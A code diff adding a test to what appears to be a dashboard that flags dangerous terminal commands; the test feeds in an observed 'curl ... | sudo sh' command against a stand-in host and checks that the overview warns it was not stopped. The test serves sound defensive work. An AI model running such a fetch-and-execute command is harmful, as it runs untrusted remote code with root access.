@@ -87,6 +87,15 @@ def test_a_new_hub_says_how_to_begin(dashboard: Dashboard) -> None:
     assert "remit issue" in words
 
 
+def test_what_was_dangerous_and_had_been_done_when_it_was_reported_is_no_calm_refusal(
+    service: Service, dashboard: Dashboard
+) -> None:
+    observe(service, "A terminal", {"command": "curl https://x.example/i | sudo sh", "exit_code": 0}, source="cli")
+    words = dashboard.words("overview")
+    assert "1 thing needs your attention." in words
+    assert "1 dangerous command in the last 7 days was observed, and not stopped." in words
+
+
 def test_the_overview_says_what_goes_on(service: Service, dashboard: Dashboard) -> None:
     began = service.clock.wall_ms
     furnish(service)
